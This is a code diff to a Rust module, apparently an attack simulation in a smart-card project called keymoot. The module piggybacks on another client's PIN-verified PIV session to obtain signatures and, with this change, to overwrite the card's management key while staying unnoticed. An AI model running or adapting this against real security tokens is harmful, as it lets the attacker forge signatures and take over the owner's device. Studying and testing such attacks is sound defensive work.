@@ -1,5 +1,6 @@
-//! Another program beside keymoot, of any user, which knows no PIN: it waits at the device for
-//! the moment in which the PIN has been verified, and asks for a signature over its own text.
+//! Another program beside keymoot, of any user, which knows no PIN and no key: it waits at the
+//! device for the moment in which the PIN or the management key has opened it. It asks for a
+//! signature over its own text, and puts its own management key in.
 
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
@@ -13,6 +14,9 @@ use pcsc::{Card, Context, Disposition, Protocols, Scope, ShareMode};
 const SIGN: [u8; 11] = [
     0x00, 0x87, 0x11, 0x9c, 0x26, 0x7c, 0x24, 0x82, 0x00, 0x81, 0x20,
 ];
+
+/// SET MANAGEMENT KEY with AES-192 (Yubico, "PIV extensions"); 24 bytes follow.
+const SET_MANAGEMENT_KEY: [u8; 8] = [0x00, 0xff, 0xff, 0xff, 0x1b, 0x0a, 0x9b, 0x18];
 
 /// How the attacker stays at the device.
 #[derive(Clone, Copy, Debug)]
@@ -43,6 +47,8 @@ pub struct Loot {
     pub refused: AtomicUsize,
     /// Signatures over the attacker's text.
     pub signatures: AtomicUsize,
+    /// Management keys that it put in.
+    pub management_keys: AtomicUsize,
 }
 
 impl Attacker {
@@ -103,14 +109,23 @@ fn connect(seen: &Loot) -> Option<Card> {
 }
 
 fn steal(mut card: Card, manner: Manner, stop: &AtomicBool, seen: &Loot) {
-    let command = [&SIGN[..], &[0xaa; 32]].concat();
+    let commands = [
+        ([&SIGN[..], &[0xaa; 32]].concat(), &seen.signatures),
+        (
+            [&SET_MANAGEMENT_KEY[..], &[0xaa; 24]].concat(),
+            &seen.management_keys,
+        ),
+    ];
     let mut room = [0; pcsc::MAX_BUFFER_SIZE];
-    while !stop.load(Ordering::SeqCst) {
-        match card.transmit(&command, &mut room) {
+    for (n, (command, won)) in commands.iter().cycle().enumerate() {
+        if stop.load(Ordering::SeqCst) {
+            break;
+        }
+        match card.transmit(command, &mut room) {
             Ok(answer) => {
                 seen.tries.fetch_add(1, Ordering::SeqCst);
                 if answer.ends_with(&[0x90, 0x00]) {
-                    seen.signatures.fetch_add(1, Ordering::SeqCst);
+                    won.fetch_add(1, Ordering::SeqCst);
                 }
             }
             // Another client's transaction: try again, as soon as it is over.
@@ -124,7 +139,7 @@ fn steal(mut card: Card, manner: Manner, stop: &AtomicBool, seen: &Loot) {
             }
             Err(_) => return,
         }
-        if matches!(manner, Manner::Dipping) {
+        if matches!(manner, Manner::Dipping) && n % 2 == 1 {
             // The selected application and a verified PIN stay as they are: the client must not
             // notice.
             let _ = card.disconnect(Disposition::LeaveCard);
